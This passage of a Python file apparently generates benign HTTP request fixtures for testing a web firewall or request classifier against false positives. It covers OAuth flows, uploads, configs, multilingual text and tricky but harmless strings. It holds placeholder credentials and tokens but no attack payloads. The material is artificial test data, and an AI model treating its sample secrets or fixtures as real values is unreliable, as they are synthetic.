        js("benign", "/api/v1/tickets", {"subject": "Windows installer fails", "body": "Error 1603 writing C:\\Program Files\\Acme\\config.ini — "
                                                                                        "log at %TEMP%\\MSI4f2a.LOG. Running as admin doesn't help."}),
        js("benign", "/api/v1/crash-reports", {"platform": "ios", "exception": "EXC_BAD_ACCESS (SIGSEGV)", "thread0": [
            "0   libobjc.A.dylib    0x1a0c4 objc_msgSend + 16", "1   Acme    0x10041c2a8 -[OrderViewController tableView:cellForRowAtIndexPath:] + 212 (OrderViewController.m:88)"]}),
    ]


def config_values() -> list[Req]:
    return [
        js("benign", "/api/v1/routes", {"match": "^/api/v[0-9]+/users/[^/]+$", "methods": ["GET", "PATCH"], "upstream": "users"}),
        js("benign", "/api/v1/redirect-rules", {"source": "(?i)^(?:https?://)?(?:www\\.)?acme\\.example(?:/.*)?$", "target": "https://acme.example$1", "status": 301}),
        js("benign", "/api/v1/dlp/detectors", {"name": "US SSN", "pattern": "\\b\\d{3}-\\d{2}-\\d{4}\\b", "action": "mask"}),
        js("benign", "/api/v1/sanitizer/rules", {"name": "strip angle brackets in usernames", "pattern": "[<>\"'&]", "replace": ""}),
        js("benign", "/api/v1/pipelines/logs/grok", {"pattern": "%{IPORHOST:clientip} %{USER:ident} %{USER:auth} \\[%{HTTPDATE:timestamp}\\] \"(?:%{WORD:verb} "
                                                                "%{NOTSPACE:request}(?: HTTP/%{NUMBER:httpversion})?|%{DATA:rawrequest})\" %{NUMBER:response} (?:%{NUMBER:bytes}|-)"}),
        js("benign", "/api/v1/schedules", {"name": "nightly-backup", "cron": "0 3 * * 1-5", "timezone": "Europe/Berlin",
                                           "command": "/usr/local/bin/backup.sh --full >> /var/log/backup.log 2>&1"}),
        js("benign", "/api/v1/schedules", {"name": "cache-warm", "cron": "*/5 * * * *", "command": "curl -fsS -m 10 --retry 3 https://shop.example/internal/warm > /dev/null"}),
        js("benign", "/api/v1/jobs", {"name": "month-end", "quartz": "0 0 23 L * ?", "handler": "billing.close_month"}),
        js("benign", "/api/v1/alerts/rules", {"expr": "histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket{job=\"api\"}[5m])) by (le)) > 0.5",
                                              "for": "10m", "labels": {"severity": "page"}, "annotations": {"summary": "p99 > 500ms on {{ $labels.instance }}"}}),
        js("benign", "/api/v1/settings/cors", {"allowed_origins": ["https://app.acme.example", "http://localhost:3000", "http://127.0.0.1:5173"],
                                               "allowed_headers": ["Authorization", "Content-Type", "X-Requested-With"]}),
        js("benign", "/api/v1/settings/csp", {"policy": "default-src 'self'; script-src 'self' 'nonce-{random}' https://js.stripe.com; img-src 'self' data: https:; "
                                                        "frame-src https://www.youtube.com https://js.stripe.com; object-src 'none'; base-uri 'self'"}),
        js("benign", "/api/v1/env", {"vars": {"DATABASE_URL": "postgres://app@db:5432/app", "REDIS_URL": "redis://cache:6379/0", "LOG_LEVEL": "info",
                                              "ALLOWED_HOSTS": "shop.example,.shop.example,localhost", "PATH_PREFIX": "/srv/app/current"}}, method="PUT"),
        raw("benign", "PUT", "/api/v1/config/app.yaml", "server:\n  port: 8080\n  base_path: /api\nlogging:\n  file: /var/log/app/app.log\n  format: '%(asctime)s %(levelname)s %(message)s'\n"
                                                         "features:\n  - name: search-v2\n    enabled: true\n", {"Content-Type": "application/yaml"}),
        raw("benign", "PUT", "/api/v1/config/.env.example", "APP_ENV=production\nAPP_URL=https://shop.example\nDB_HOST=127.0.0.1\nDB_PASSWORD=\nMAIL_FROM=\"Acme <no-reply@acme.example>\"\n", TEXT),
    ]


def code_review_and_paths() -> list[Req]:
    diff = ("diff --git a/src/db.py b/src/db.py\nindex 3b18e51..a9c2f04 100644\n--- a/src/db.py\n+++ b/src/db.py\n@@ -10,7 +10,7 @@ def get_user(uid):\n"
            "-    cur.execute(f\"SELECT * FROM users WHERE id = {uid}\")\n+    cur.execute(\"SELECT * FROM users WHERE id = %s\", (uid,))\n     return cur.fetchone()\n")
    return [
        js("benign", "/api/v1/repos/acme/api/pulls/913/comments", {"path": "src/app/main.py", "line": 42, "side": "RIGHT", "body": "nit: use `pathlib.Path(__file__).parent / 'static'`"}),
        js("benign", "/api/v1/repos/acme/api/pulls/914/comments", {"path": "src/db.py", "line": 13, "body": "Thanks for fixing the injection 👍", "diff_hunk": diff}, ascii_only=False),
        js("benign", "/api/v1/repos/acme/web/pulls/57/comments", {"path": "src/components/Login.tsx", "line": 3,
                                                                   "body": "Import from `'../../lib/auth'` instead of `'../../../shared/auth'`, the shared one is deprecated."}),
        js("benign", "/api/v1/repos/acme/api/pulls/913/reviews", {"event": "REQUEST_CHANGES", "body": "The migration drops `users_old` — please add a backup step:\n"
                                                                                                      "```sh\npg_dump -t users_old shop > /backups/users_old.sql\n```"}),
        get("benign", "/api/v1/repos/acme/api/contents/src/app/main.py", {"ref": "main"}),
        get("benign", "/api/v1/files", {"path": "reports/2024/Q2 – final (v3).xlsx"}),
        get("benign", "/api/v1/repos/acme/api/commits", {"path": "docs/etc/setup.md", "since": "2024-05-01T00:00:00Z"}),
        js("benign", "/api/v1/coverage", {"files": [{"name": "src/bastion_client/__init__.py", "lines": 120, "covered": 118},
                                                    {"name": "src/bastion_client/http/retry.py", "lines": 88, "covered": 61},
                                                    {"name": "tests/../src/legacy/shim.py", "lines": 10, "covered": 0}]}),
        js("benign", "/api/v1/sbom", {"components": [{"name": "openssl", "version": "3.0.13", "purl": "pkg:deb/debian/openssl@3.0.13-1~deb12u1",
                                                      "evidence": {"occurrences": [{"location": "/usr/lib/x86_64-linux-gnu/libssl.so.3"}]}},
                                                     {"name": "log4j-core", "version": "2.17.2", "purl": "pkg:maven/org.apache.logging.log4j/log4j-core@2.17.2"}]}),
        js("benign", "/api/v1/devices/7/inventory", {"os": "Windows 11 23H2", "paths": ["C:\\Windows\\System32\\drivers\\etc\\hosts", "C:\\Users\\lee\\AppData\\Roaming\\Acme"]}),
        js("benign", "/api/v1/lint/results", {"tool": "eslint", "results": [{"filePath": "/home/runner/work/web/web/src/App.tsx", "messages": [
            {"ruleId": "react/no-danger", "message": "Dangerous property 'dangerouslySetInnerHTML' found", "line": 88}]}]}),
    ]


def urls_and_redirects() -> list[Req]:
    return [
        js("benign", "/api/v1/bookmarks", {"url": "https://www.google.com/search?q=select+from+where+sql&oq=select+from&sourceid=chrome&ie=UTF-8", "title": "search"}),
        js("benign", "/api/v1/bookmarks", {"url": "https://github.com/acme/api/blob/main/src/app/main.py#L10-L20", "title": "main.py"}),
        js("benign", "/api/v1/webhooks", {"url": "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX", "events": ["deploy.finished"]}),
        js("benign", "/api/v1/webhooks", {"url": "https://api.partner.example/v2/callbacks/orders?token=abc123&format=json", "events": ["order.created", "order.paid"]}),
        js("benign", "/api/v1/profile/avatar", {"avatar_url": "https://avatars.githubusercontent.com/u/583231?v=4&s=200"}, method="PUT"),
        get("benign", "/api/v1/link-preview", {"url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s"}),
        get("benign", "/api/v1/link-preview", {"url": "https://en.wikipedia.org/wiki/SQL_injection"}),
        js("benign", "/api/v1/attachments", {"url": "https://acme-uploads.s3.eu-west-1.amazonaws.com/tickets/311/screenshot.png?X-Amz-Algorithm=AWS4-HMAC-SHA256"
                                                    "&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20240521%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20240521T120000Z"
                                                    "&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=" + rand_hex(64)}),
        get("benign", "/login", {"next": "/account/settings?tab=billing"}),
        raw("benign", "GET", "/login?return_to=%2Fdashboard%3Ftab%3Dusage%26range%3D7d"),
        get("benign", "/r", {"u": "https://shop.example/products/42?utm_source=newsletter&utm_medium=email&utm_campaign=summer_sale"}),
        js("benign", "/api/v1/places", {"name": "Eiffel Tower", "maps_url": "https://maps.google.com/?q=48.8584,2.2945&z=17"}),
        js("benign", "/api/v1/integrations/jira", {"base_url": "https://acme.atlassian.net", "oauth_callback": "https://app.acme.example/integrations/jira/callback"}),
        js("benign", "/api/v1/feeds", {"feed_url": "https://blog.acme.example/feed.xml?format=rss&category=engineering"}),
    ]


def uploads_and_keys() -> list[Req]:
    png = png_bytes()
    svg = ('<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n'
           '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
           '<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 64 64" '
           'style="enable-background:new 0 0 64 64;" xml:space="preserve"><style type="text/css">.st0{fill:#0A7;}</style>'
           '<path class="st0" d="M32 2C15.4 2 2 15.4 2 32s13.4 30 30 30 30-13.4 30-30S48.6 2 32 2z"/></svg>\n')
    xlsx = zip_with({"[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                                            '<Default Extension="xml" ContentType="application/xml"/></Types>',
                     "xl/sharedStrings.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                             'count="3" uniqueCount="3"><si><t>Name</t></si><si><t>O\'Brien &amp; Co</t></si><si><t>=SUM(B2:B9)</t></si></sst>'}, stored=False)
    pdf = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
           b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length 44 >>\nstream\n"
           b"BT /F1 24 Tf 100 700 Td (Invoice #10234) Tj ET\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    csv = ("sku,name,price,qty,notes\nA-100,\"Mug, large\",12.50,3,\"says \"\"hello\"\"\"\nB-220,T-shirt (M),19.99,-1,return\nC-7,Café crème,3.20,10,\n"
           "D-9,\"Bolts 1/4\"\" x 2\"\"\",0.15,500,\"<50 left, reorder\"\n")
    return [
        js("benign", "/api/v1/avatars", {"image": "data:image/png;base64," + base64.b64encode(png).decode(), "crop": {"x": 0, "y": 0, "w": 48}}),
        multipart("benign", "/api/v1/uploads", [("file", png, "screenshot 2024-05-21 at 10.14.22.png", "image/png"), ("ticket", "311", None, None)]),
        multipart("benign", "/api/v1/uploads", [("file", bytes(_rng.getrandbits(8) for _ in range(6000)), "IMG_4032.HEIC", "image/heic")]),
        multipart("benign", "/api/v1/brand/logo", [("file", svg, "logo.svg", "image/svg+xml")]),
        multipart("benign", "/api/v1/sheets/import", [("file", xlsx, "Customers Q2.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]),
        multipart("benign", "/api/v1/invoices/upload", [("file", pdf, "invoice_10234.pdf", "application/pdf"), ("note", "Paid by wire – ref #A/7/2024", None, None)]),
        multipart("benign", "/api/v1/products/import", [("file", csv, "products.csv", "text/csv"), ("dry_run", "true", None, None)]),
        raw("benign", "PUT", "/api/v1/objects/backups/db-2024-05-21.sql.gz", bytes(_rng.getrandbits(8) for _ in range(8000)), {"Content-Type": "application/gzip"}),
        js("benign", "/api/v1/tls/certificates", {"name": "api-mtls-client", "certificate": pem("CERTIFICATE", 900), "private_key": pem("PRIVATE KEY", 1200)}),
        js("benign", "/api/v1/users/me/keys", {"title": "laptop", "key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + rand_b64(32)[:43] + " lee@MacBook-Pro.local"}),
        js("benign", "/api/v1/users/me/keys", {"title": "ci", "key": "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ" + rand_b64(380).replace("=", "") + " deploy@ci-runner-3"}),
        js("benign", "/api/v1/users/me/gpg_keys", {"armored_public_key": pem("PGP PUBLIC KEY BLOCK", 700).replace("-----\n", "-----\nComment: GPGTools\n\n", 1)}),
        js("benign", "/api/v1/tls/csr", {"csr": pem("CERTIFICATE REQUEST", 600), "sans": ["shop.example", "*.shop.example"]}),
    ]


def tokens_and_oauth() -> list[Req]:
    at = rs256_token({"iss": "https://auth.acme.example/", "sub": "auth0|6650a1b2c3d4e5f6a7b8c9d0", "aud": ["https://api.acme.example", "https://acme.eu.auth0.com/userinfo"],
                      "iat": 1716290000, "exp": 1716376400, "scope": "openid profile email read:orders write:orders", "azp": "Zx8Q1w2E3r4T5y6U"})
    idt = rs256_token({"iss": "https://accounts.google.com", "sub": "110169484474386276334", "email": "zoe@dev.example", "email_verified": True,
                       "name": "Zoë O'Connor", "nonce": "n-0S6_WzA2Mj", "aud": "1234-abc.apps.googleusercontent.com", "exp": 1716293600})
    verifier = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
    return [
        hdr("benign", {"Authorization": f"Bearer {at}", "User-Agent": "okhttp/4.12.0"}, "/api/v1/orders?status=open"),
        get("benign", "/oauth/authorize", {"response_type": "code", "client_id": "Zx8Q1w2E3r4T5y6U", "redirect_uri": "https://app.acme.example/callback",
                                           "scope": "openid profile email offline_access", "state": "af0ifjsldkj", "nonce": "n-0S6_WzA2Mj",
                                           "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "code_challenge_method": "S256"}, headers={"User-Agent": FIREFOX}),
        form("benign", "/oauth/token", {"grant_type": "authorization_code", "code": "SplxlOBeZQQYbYS6WxSbIA", "redirect_uri": "https://app.acme.example/callback",
                                        "client_id": "Zx8Q1w2E3r4T5y6U", "code_verifier": verifier}),
        form("benign", "/oauth/token", {"grant_type": "refresh_token", "refresh_token": "v1." + rand_b64(48).replace("+", "-").replace("/", "_"), "scope": "read:orders"}),
        with_headers(form("benign", "/oauth/token", {"grant_type": "client_credentials", "audience": "https://api.acme.example"}),
                     {"Authorization": "Basic " + b64("svc-reporting:kQ9%x!vLs2&Zp")}),
        form("benign", "/oauth/introspect", {"token": at, "token_type_hint": "access_token"}),
        form("benign", "/auth/callback", {"id_token": idt, "state": "eyJyZXR1cm5UbyI6Ii9vcmRlcnMifQ", "session_state": "c1f0b9e2.Xk"}),
        hdr("benign", {"Cookie": f"__Host-session={rand_b64(24)}; _ga=GA1.1.1873020321.1716200000; _ga_ABC123=GS1.1.1716290000.3.1.1716290100.0.0.0; "
                                 'ajs_anonymous_id=%2254f5a5f2-8c9b-4f7c-9d8e-2b1f0e0d7c6a%22; cookie_consent={"analytics":true,"ads":false}; '
                                 "theme=dark; lang=fr-CA", "User-Agent": CHROME}, "/api/v1/me"),
        get("benign", "/.well-known/openid-configuration"),
        js("benign", "/api/v1/auth/jwks", {"keys": [{"kty": "RSA", "use": "sig", "kid": "2024-05-rot", "alg": "RS256", "n": b64u(bytes(_rng.getrandbits(8) for _ in range(256))),
                                                     "e": "AQAB"}]}, method="PUT"),
        form("benign", "/saml/acs", {"SAMLResponse": b64('<?xml version="1.0" encoding="UTF-8"?><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" '
                                                        'ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2024-05-21T12:00:00Z" '
                                                        'Destination="https://shop.example/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
                                                        'https://idp.corp.example/metadata</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:'
                                                        'status:Success"/></samlp:Status></samlp:Response>'), "RelayState": "https://shop.example/admin/orders?page=2"}),
        js("benign", "/api/v1/auth/login", {"email": "lee@acme.example", "password": "Tr0ub4dor&3;horse--staple!"}),
        form("benign", "/api/v1/auth/login", {"username": "o'brien", "password": "p@$$w0rd'\"<>#%^*()"}),
        js("benign", "/api/v1/auth/register", {"email": "ana@example.com", "password": "correct horse battery staple 1=1", "name": "Ana"}),
        hdr("benign", {"X-Api-Key": "sk_live_" + rand_hex(24), "Idempotency-Key": "4f7c1c2e-8a9b-4c3d-9e0f-1a2b3c4d5e6f"}, "/api/v1/charges?limit=3"),
    ]


def schemas_and_rules() -> list[Req]:
    openapi = {"openapi": "3.1.0", "info": {"title": "Shop API", "version": "2.14.0", "description": "Orders & customers. **Auth**: `Authorization: Bearer <token>`."},
               "paths": {"/v1/orders/{id}": {"get": {"operationId": "getOrder", "parameters": [{"name": "id", "in": "path", "required": True, "schema": {"type": "string", "pattern": "^ord_[A-Za-z0-9]{14}$"}}],
                                                     "responses": {"200": {"description": "OK", "content": {"application/json": {"schema": {"$ref": "#/components/schemas/Order"}}}}}}},
                         "/v1/search": {"get": {"parameters": [{"name": "q", "in": "query", "example": "\"red shoes\" -kids", "schema": {"type": "string", "maxLength": 200}}]}}},
               "components": {"schemas": {"Order": {"type": "object", "required": ["id"], "properties": {"id": {"type": "string"}, "note": {"type": "string", "example": "Leave with O'Brien next door"},
                                                                                                    "total": {"type": "number", "minimum": 0}}}},
                              "securitySchemes": {"bearer": {"type": "http", "scheme": "bearer", "bearerFormat": "JWT"}}}}
    schema = {"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://acme.example/schemas/user.json", "type": "object",
              "properties": {"username": {"type": "string", "pattern": "^[a-z0-9_-]{3,16}$"}, "email": {"type": "string", "format": "email"},
                             "age": {"type": "integer", "exclusiveMinimum": 0}, "tags": {"type": "array", "items": {"$ref": "#/$defs/tag"}}},
              "if": {"properties": {"country": {"const": "US"}}}, "then": {"required": ["zip"]}, "$defs": {"tag": {"type": "string", "enum": ["a&b", "c<d", "x/y"]}},
              "additionalProperties": False}
    return [
        js("benign", "/api/v1/specs", {"name": "shop", "spec": openapi}),
        js("benign", "/api/v1/schemas", schema),
        js("benign", "/api/v1/flags/new-checkout/rules", {"clauses": [{"attribute": "email", "op": "endsWith", "values": ["@acme.example"]},
                                                                      {"attribute": "country", "op": "in", "values": ["DE", "FR", "NL"], "negate": False}], "rollout": {"variation": 1, "weight": 25000}}),
        js("benign", "/api/v1/flags/search-v2", {"expression": "user.country in (\"DE\",\"FR\") && user.plan != \"free\" && !(user.id % 10 < 3)"}),
        js("benign", "/api/v1/policies", {"name": "admins-only", "cel": "request.auth.claims.groups.exists(g, g == 'admin') && request.path.startsWith('/admin/')"}),
        js("benign", "/v1/policies/authz", {"rego": "package httpapi.authz\n\ndefault allow := false\n\nallow if {\n    input.method == \"GET\"\n"
                                                    "    input.path = [\"api\", \"v1\", \"orders\", order_id]\n    data.orders[order_id].owner == input.user\n}\n"}),
        js("benign", "/api/v1/segments", {"name": "seniors-us", "logic": {"and": [{">=": [{"var": "age"}, 65]}, {"==": [{"var": "country"}, "US"]},
                                                                                 {"in": ["@", {"var": "email"}]}]}}),
        js("benign", "/api/v1/flags", {"key": "banner-text", "variations": [{"value": "<b>Free shipping</b> over $50!"}, {"value": "Sale ends <time>Sunday</time> 🎉"}]}, ascii_only=False),
        js("benign", "/api/v1/automations", {"trigger": "ticket.created", "condition": "ticket.subject contains 'refund' or ticket.priority >= 3",
                                             "actions": [{"type": "assign", "team": "billing"}, {"type": "tag", "value": "refund&returns"}]}),
    ]


def i18n() -> list[Req]:
    texts = ["مرحبًا، أريد إلغاء الطلب رقم ١٠٢٣٤ من فضلك", "这个产品很好用，但是运费太贵了！五星 ⭐⭐⭐⭐⭐", "〒100-0001 東京都千代田区千代田1-1 皇居外苑",
             "Здравствуйте! Заказ №10234 ещё не пришёл — что делать?", "Iğdır'da kışın hava çok soğuk; İstanbul'a taşınıyorum.", "שלום, ההזמנה שלי לא הגיעה",
             "배송이 너무 빨라요! 감사합니다 😊", "สวัสดีครับ ขอบคุณมาก", "नमस्ते, मेरा ऑर्डर कब आएगा?", "Καλημέρα! Η παραγγελία μου #10234;",
             "Xin chào, tôi muốn đổi size áo", "👨‍👩‍👧‍👦🏳️‍🌈🇺🇦 family & friends pack"]
    out: list[Req] = []
    for i, t in enumerate(texts):
        if i % 3 == 0:
            out.append(js("benign", "/api/v1/reviews", {"product_id": 42 + i, "text": t, "rating": 5}, ascii_only=False))
        elif i % 3 == 1:
            out.append(get("benign", "/api/v1/search", {"q": t, "locale": "auto"}))
        else:
            out.append(form("benign", "/api/v1/contact", {"message": t, "lang": "xx"}))
    out.append(js("benign", "/api/v1/i18n/fr", {"checkout.title": "Paiement", "checkout.note": "L'adresse « {street} » est introuvable.",
                                                "cart.items": "{count, plural, =0 {aucun article} one {# article} other {# articles}}",
                                                "legal": "<a href=\"{url}\">Conditions générales</a> & politique de confidentialité"}, method="PUT", ascii_only=False))
    return out


def maths_and_sheets() -> list[Req]:
    return [
        js("benign", "/api/v1/notes", {"text": "if x < 5 && y > 3 then z = x & y; note a <= b => c >= d"}),
        js("benign", "/api/v1/notes", {"text": "$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2} < n^2 \\quad \\forall n > 1$$"}),
        form("benign", "/api/v1/answers", {"answer": "O(n log n) < O(n^2); for n=1000: 10^4 vs 10^6 -> about 100x", "question_id": "77"}),
        get("benign", "/api/v1/calc", {"expr": "(3 + 4) * 2 / 7 - 1 >= 1"}),
        js("benign", "/api/v1/homework", {"steps": ["f(x) = { x | x > 0 }", "g(x) = -x if x < 0 else x", "|a - b| <= |a| + |b|", "1/0 -> undefined"]}),
        js("benign", "/v4/spreadsheets/abc/values/Sheet1!A1:D4", {"range": "Sheet1!A1:D4", "majorDimension": "ROWS", "values": [
            ["Item", "Qty", "Price", "Total"], ["Mug", "2", "12.5", "=B2*C2"], ["Shirt", "1", "19.99", "=B3*C3"], ["", "", "Sum", "=SUM(D2:D3)"]]}, method="PUT"),
        js("benign", "/v4/spreadsheets/abc/values/Report!A1", {"values": [["=VLOOKUP(B2,Sheet2!A:C,3,FALSE)", "=IF(AND(C2>=10,D2<>\"N/A\"),\"OK\",\"CHECK\")",
                                                                          "=QUERY(A:D,\"select A, sum(D) where B = 'paid' group by A\",1)",
                                                                          "=IFERROR(INDEX(C:C,MATCH(E2,A:A,0)),\"-\")", "=TEXT(TODAY(),\"yyyy-mm-dd\")"]]}, method="PUT"),
        js("benign", "/api/v1/pricing/rules", {"rule": "price * 0.9 if qty >= 10 else price", "min": "cost * 1.15", "note": "5% <= margin <= 40%"}),
        form("benign", "/api/v1/quiz", {"q1": "2 < 3", "q2": "a != b", "q3": "x == y || y == z", "q4": "!(a && b) == !a || !b"}),
        js("benign", "/api/v1/units", {"conversion": "1 in = 2.54 cm; 1 lb ≈ 0.4536 kg; 0 °C = 32 °F", "range": "-40..+85 °C"}, ascii_only=False),
    ]


def large_documents() -> list[Req]:
    orders = [{"id": f"ord_{i:06d}", "customer": {"name": ["Ann O'Neil", "Bob & Co", "Chloé", "Dan <dan@x.io>"][i % 4], "tier": i % 3},
               "lines": [{"sku": f"SKU-{i}-{j}", "qty": j + 1, "price": round(9.99 + j, 2)} for j in range(4)],
               "notes": "deliver after 6pm; fragile!" if i % 5 == 0 else ""} for i in range(300)]
    deep: Any = {"value": "leaf – level 40"}
    for lvl in range(40):
        deep = {f"level{lvl}": deep, "meta": {"order": lvl}}
    geo = {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": "Zone A", "note": "lat > 48 & lon < 3"},
                                                      "geometry": {"type": "Polygon", "coordinates": [[[2.2 + k / 1000, 48.8 + (k % 7) / 1000] for k in range(400)]]}}]}
    return [
        js("benign", "/api/v1/orders/bulk", {"orders": orders}),
        js("benign", "/api/v1/settings/tree", deep),
        js("benign", "/api/v1/zones", geo),
        js("benign", "/api/v1/telemetry", {"device": "sensor-7", "samples": [{"t": 1716290000 + k, "v": round((k * 37 % 100) / 3.0, 3)} for k in range(1000)]}),
        js("benign", "/api/v1/translations/import", nest(["app", "pages", "checkout", "form", "fields"], {f"f{k}": {"label": f"Field #{k}", "help": "Use format AA-9999 (e.g. \"AB-1234\")",
                                                                                                                "error": "Must be < 100 & > 0"} for k in range(60)})),
    ]


def plain_http() -> list[Req]:
    return [
        raw("benign", "OPTIONS", "/api/v1/orders", headers={"Origin": "https://app.acme.example", "Access-Control-Request-Method": "POST",
                                                            "Access-Control-Request-Headers": "authorization,content-type,x-requested-with"}),
        raw("benign", "HEAD", "/api/v1/files/report.pdf"),
        raw("benign", "DELETE", "/api/v1/orders/ord_000123/lines/2", headers={"If-Match": 'W/"a1b2c3"'}),
        hdr("benign", {"User-Agent": CHROME, "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                       "Accept-Language": "fr-CA,fr;q=0.9,en-US;q=0.8,en;q=0.7", "Referer": "https://www.google.com/search?q=acme+shop+select+chair",
                       "sec-ch-ua": '"Chromium";v="125", "Google Chrome";v="125", "Not.A/Brand";v="24"', "sec-ch-ua-platform": '"Windows"',
                       "Upgrade-Insecure-Requests": "1", "If-None-Match": 'W/"5f3-1a2b"'}, "/products/chairs?color=red&sort=price_asc"),
        hdr("benign", {"X-Forwarded-For": "10.20.0.4, 203.0.113.195", "Via": "1.1 corp-proxy.example (squid/6.6)"}, "/api/v1/products"),
        hdr("benign", {"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}, "/products/42"),
        hdr("benign", {"User-Agent": "kube-probe/1.29"}, "/healthz"),
        hdr("benign", {"User-Agent": "Prometheus/2.51.0", "Accept": "application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,*/*;q=0.1"}, "/metrics"),
        hdr("benign", {"User-Agent": "curl/8.5.0"}, "/api/v1/status"),
        hdr("benign", {"User-Agent": "python-requests/2.31.0"}, "/api/v1/products?page=3&per_page=100"),
        hdr("benign", {"User-Agent": "Apache-HttpClient/4.5.14 (Java/17.0.9)"}, "/api/v1/inventory/SKU-77"),
        gql("benign", "fragment OrderFields on Order { id total currency status lines { sku qty } }\n"
                      "query Orders($first: Int = 20, $after: String, $filter: OrderFilter) { orders(first: $first, after: $after, filter: $filter) { "
                      "edges { cursor node { ...OrderFields } } pageInfo { hasNextPage endCursor } } }",
            {"first": 50, "after": "YXJyYXljb25uZWN0aW9uOjQ5", "filter": {"status": ["OPEN", "PAID"], "search": "O'Brien & Sons"}}),
        gql("benign", "mutation UpdateBio($bio: String!) { updateProfile(input: {bio: $bio}) { id bio } }",
            {"bio": "Backend dev 🐍. I <3 Postgres; SELECT * FROM life WHERE fun = true; ~/dotfiles on GitHub"}),
        get("benign", "/graphql", {"operationName": "Product", "variables": json.dumps({"id": "42"}),
                                   "extensions": json.dumps({"persistedQuery": {"version": 1, "sha256Hash": rand_hex(64)}})}),
        js("benign", "/graphql", [{"query": "query { me { id name } }"}, {"query": "query Cart { cart { items { id qty } total } }", "operationName": "Cart"}]),
        xml("benign", "/ws/PaymentService", '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
                                             '<soap:Header><wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
                                             '<wsse:UsernameToken><wsse:Username>shop</wsse:Username><wsse:Password>Xy7!q</wsse:Password></wsse:UsernameToken>'
                                             '</wsse:Security></soap:Header><soap:Body><Authorize xmlns="urn:pay"><Amount currency="EUR">45.99</Amount>'
                                             '<Reference>Order #10234 &amp; gift wrap</Reference></Authorize></soap:Body></soap:Envelope>', "text/xml; charset=utf-8"),
        xml("benign", "/api/v1/feeds/import", '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
                                              '<channel><title>Acme Engineering</title><link>https://blog.acme.example</link><item><title>Why we dropped MongoDB</title>'
                                              '<link>https://blog.acme.example/why-we-dropped-mongodb?utm_source=rss</link><content:encoded><![CDATA[<p>We moved to '
                                              '<code>SELECT ... FOR UPDATE SKIP LOCKED</code> queues.</p><img src="https://blog.acme.example/q.png">]]></content:encoded>'
                                              '</item></channel></rss>', "application/rss+xml"),
        xml("benign", "/api/v1/sitemaps", '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url>'
                                          '<loc>https://shop.example/search?q=shoes&amp;page=2</loc><lastmod>2024-05-21</lastmod></url></urlset>'),
        xml("benign", "/api/v1/deps/scan", '<?xml version="1.0" encoding="UTF-8"?><project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion>'
                                           '<groupId>com.acme</groupId><artifactId>shop</artifactId><version>1.0</version><dependencies><dependency><groupId>org.apache.logging.log4j'
                                           '</groupId><artifactId>log4j-core</artifactId><version>2.17.2</version></dependency></dependencies><build><plugins><plugin>'
                                           '<artifactId>maven-surefire-plugin</artifactId><configuration><argLine>-Xmx1g ${argLine}</argLine></configuration></plugin>'
                                           '</plugins></build></project>'),
        Req("benign", "PUT", "/api/v1/users/42", {"Content-Type": "application/merge-patch+json"}, json.dumps({"nickname": None, "bio": "ex-Googler; now @ Acme"}).encode()),
        get("benign", "/api/v1/products", {"ids": "1,2,3", "fields": "name,price", "include": "reviews.author", "q": "ring (size 7)"}),
        raw("benign", "GET", "/api/v1/products/search?q=caf%C3%A9+cr%C3%A8me&tags[]=new&tags[]=sale&price[min]=5&price[max]=20"),
